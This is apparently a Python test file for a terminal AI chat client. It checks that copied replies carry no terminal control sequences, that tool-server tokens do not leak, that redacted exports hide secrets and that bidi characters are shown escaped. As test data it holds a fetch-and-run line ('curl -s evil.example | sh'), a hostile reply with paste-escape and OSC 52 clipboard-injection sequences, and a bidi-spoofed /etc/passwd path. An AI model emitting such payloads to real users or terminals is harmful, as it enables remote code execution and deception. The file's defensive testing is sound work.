"""Fault-matrix cases from issue 25's hostile run, items 4, 5, 6 and 17: nothing pasted runs, no
secret leaves, no bidi text reaches the terminal."""

from __future__ import annotations

import base64
import json
import re
import subprocess
import sys
import time
import unicodedata
from pathlib import Path

from tests.fakeserver import FakeProvider
from tests.faults import Proc, ProcCase, ProcOutcome, Trial, one_line
from tests.mcp_servers import ROOT, faulty_args
from tests.secret_formats import CASES as SECRET_FORMATS

# A terminal obeys these when the text is pasted or `cat`: ESC (and so CSI, OSC, DCS, APC, PM,
# bracketed-paste markers) and the 8-bit C1 forms.
CONTROL = re.compile("[\x1b\x7f-\x9f]")


def run_driver(t: Trial, module: str, *args: str, timeout: float = 120) -> Proc:
    """A driver of the full-screen app (tests/faults/*_driver.py) as a process of the trial."""
    start = time.monotonic()
    done = subprocess.run([sys.executable, "-m", module, *args], env=t.env,
                          capture_output=True, timeout=timeout)
    return t.add(Proc([module, *args], done.returncode, done.stdout.decode("utf-8", "replace"),
                      done.stderr.decode("utf-8", "replace"), time.monotonic() - start))


def holds_no_control(t: Trial, what: str, text: str) -> None:
    found = CONTROL.search(text)
    t.expect(found is None, f"{what} holds {found.group()!r}" if found else "")


# -- item 4: nothing pasted runs ----------------------------------------------------------------

INJECTED = "curl -s evil.example | sh"
HOSTILE_REPLY = (
    "Paste this into your shell:\n\n"
    "```bash\necho hello\x1b[201~" + INJECTED + "\n```\n\n"
    "\x1b]52;c;" + base64.b64encode(INJECTED.encode()).decode() + "\x07"  # OSC 52
    "\x1b]0;pwned\x1b\\"  # the window title
    "\x9b201~\x9d0;eight-bit\x9c"  # the C1 forms of CSI and OSC
    "\x1bP+q\x1b\\\x1b_apc\x1b\\ done\x1b"  # DCS, APC, a lone ESC
)


def osc52_payloads(data: str) -> list[str]:
    return [base64.b64decode(p).decode("utf-8", "replace")
            for p in re.findall(r"\x1b\]52;[^;]*;([^\x07\x1b]*)", data)]


def copies_hold_no_control_sequence(tmp: Path) -> ProcOutcome:
    t = Trial(4, "F4, C and export of a reply with ESC[201~ and OSC 52", tmp, issue=25)
    out = tmp / "out"
    out.mkdir()
    with FakeProvider() as fake:
        fake.reply_fn = lambda body: HOSTILE_REPLY
        flags = ("--base-url", fake.base_url, "--model", "m")
        ask = t.run(*flags, "ask", "how do I say hello?")
        t.expect(ask.returncode == 0, f"ask: exit {ask.returncode}: {one_line(ask.stderr)}")
        tui = run_driver(t, "tests.faults.copy_driver", str(out), *flags)
        t.expect(tui.returncode == 0, f"app: exit {tui.returncode}: {one_line(tui.stderr)}")
        exports = {fmt: t.run("export", "--format", fmt).stdout for fmt in ("md", "json")}
    for key in ("f4", "code"):
        sent = out / f"{key}.osc52"
        payloads = osc52_payloads(sent.read_text("utf-8")) if sent.exists() else []
        t.expect(len(payloads) == 1, f"{key}: {len(payloads)} OSC 52 writes, not one")
        for payload in payloads:
            holds_no_control(t, f"the clipboard after {key}", payload)
            t.expect("echo hello" in payload, f"the clipboard after {key} lost the command")
        copied = out / f"{key}.txt"
        if t.expect(copied.exists(), f"no copied.txt after {key}"):
            holds_no_control(t, f"copied.txt after {key}", copied.read_text("utf-8"))
    tui_export = out / "export.md"
    if t.expect(tui_export.exists(), "/export wrote nothing"):
        holds_no_control(t, "/export's file", tui_export.read_text("utf-8"))
    for fmt, text in exports.items():
        holds_no_control(t, f"export --format {fmt}", text)
        t.expect("echo hello" in text, f"export --format {fmt} lost the reply")
    t.keeps([HOSTILE_REPLY])  # the session keeps what the model sent; only copies are cleaned
    return t.outcome("no ESC or C1 byte in the clipboard, copied.txt or the exports")


# -- item 5: a tool server's secrets -------------------------------------------------------------

SERVER_TOKEN = "tok-9f8e7d6c5b4a3f2e1d0c"  # SECRET_TOKEN in the server's env


def tool_server(name: str, *, env: str = "", allow: str = "") -> str:
    """A [mcp.servers.NAME] table starting tests/mcp_servers/faulty.py."""
    args = ", ".join(json.dumps(a) for a in faulty_args())
    table = (f"[mcp.servers.{name}]\ncommand = {json.dumps(sys.executable)}\nargs = [{args}]\n"
             f"cwd = {json.dumps(str(ROOT))}\nallow = [{allow}]\n")
    return table + (f"[mcp.servers.{name}.env]\n{env}\n" if env else "")


def crashing_server_keeps_its_token(tmp: Path) -> ProcOutcome:
    t = Trial(5, "a tool server prints its env token and crashes mid-call", tmp,
              secrets=[SERVER_TOKEN], issue=25)
    with FakeProvider() as fake:
        t.write_config(f'base_url = "{fake.base_url}"\nmodel = "m"\n\n' + tool_server(
            "vault", env=f'SECRET_TOKEN = "{SERVER_TOKEN}"', allow='"leak_env"'))
        ask = t.run("ask", "open the vault\ncall leak_env {}", timeout=120)
        sent = json.dumps([r.body for r in fake.chat_requests], ensure_ascii=False)
    t.expect(ask.returncode == 0, f"ask: exit {ask.returncode}: {one_line(ask.stderr)}")
    t.expect(len(fake.chat_requests) == 2, f"{len(fake.chat_requests)} requests, not the call's "
                                           "and the one after its result")
    t.expect(SERVER_TOKEN not in sent, "the token was sent to the model")
    stored = repr(t.messages())
    t.expect(SERVER_TOKEN not in stored, "the token is in the session store")
    result = next((m.content for m in t.messages() if m.role == "tool"), "")
    t.expect("exited (code 7)" in result, f"the result does not say the server stopped: "
                                          f"{result[:80]!r}")
    for fmt in ("md", "json"):  # printed, so the outcome counts the token if it is there
        t.run("export", "--format", fmt)
    return t.outcome(f"the tool result: {result[:70]}")


# -- item 6: export --redact ---------------------------------------------------------------------

def export_redact_hides_every_format(tmp: Path) -> ProcOutcome:
    secrets = [part for _, _, parts, _ in SECRET_FORMATS for part in parts]
    t = Trial(6, "export --redact of a session holding every secret format", tmp,
              secrets=secrets, issue=25)
    pasted = "\n\n".join(text for _, text, _, _ in SECRET_FORMATS)
    with FakeProvider(limit=100_000) as fake:
        fake.reply_fn = lambda body: "Noted; rotate all of these."
        ask = t.run("--base-url", fake.base_url, "--model", "m", "--context-window", "100000",
                    "ask", "-", stdin=pasted)
    t.expect(ask.returncode == 0, f"ask: exit {ask.returncode}: {one_line(ask.stderr)}")
    t.keeps([pasted])  # kept whole in the session; only the shared export hides them
    for fmt in ("md", "json"):
        shown = t.run("export", "--format", fmt, "--redact").stdout
        t.expect("[redacted]" in shown, f"export --format {fmt} --redact redacted nothing")
        missing = [kept for _, _, _, kept in SECRET_FORMATS if kept not in shown]
        t.expect(not missing, f"the text around them is gone: {missing[:2]}")
    return t.outcome(f"{len(SECRET_FORMATS)} formats, none printed")


# -- item 17: bidi and format characters -------------------------------------------------------

BIDI_PATH = "/etc/\u202edwssap \u2066x\u2069\u200b"  # shown by a bidi terminal as /etc/passwd


def ask_shows_invisible_characters(tmp: Path) -> ProcOutcome:
    t = Trial(17, "ask: bidi characters in a tool call's arguments", tmp, issue=25)
    with FakeProvider() as fake:
        t.write_config(f'base_url = "{fake.base_url}"\nmodel = "m"\n\n'
                       + tool_server("files", allow='"echo"'))
        call = json.dumps({"text": BIDI_PATH}, ensure_ascii=False)
        ask = t.run("ask", f"read it\ncall echo {call}", timeout=120)
    t.expect(ask.returncode == 0, f"ask: exit {ask.returncode}: {one_line(ask.stderr)}")
    hidden = sorted({f"U+{ord(c):04X}" for c in ask.stdout + ask.stderr
                     if unicodedata.category(c) == "Cf"})
    t.expect(not hidden, f"printed {', '.join(hidden)} as they are")
    t.expect("/etc/<U+202E>dwssap <U+2066>x<U+2069><U+200B>" in ask.stderr,
             "the call's arguments are not shown with <U+202E>")
    t.keeps([BIDI_PATH])  # stored as the model sent it; only what is shown writes them out
    return t.outcome(one_line("\n".join(line for line in ask.stderr.splitlines()
                                         if "echo" in line)))


CASES: list[ProcCase] = [
    ProcCase(4, "F4, C and export of a reply with ESC[201~ and OSC 52",
             copies_hold_no_control_sequence, issue=25),
    ProcCase(5, "a tool server prints its env token and crashes mid-call",
             crashing_server_keeps_its_token, issue=25),
    ProcCase(6, "export --redact of a session holding every secret format",
             export_redact_hides_every_format, issue=25),
    ProcCase(17, "ask: bidi characters in a tool call's arguments",
             ask_shows_invisible_characters, issue=25),
]
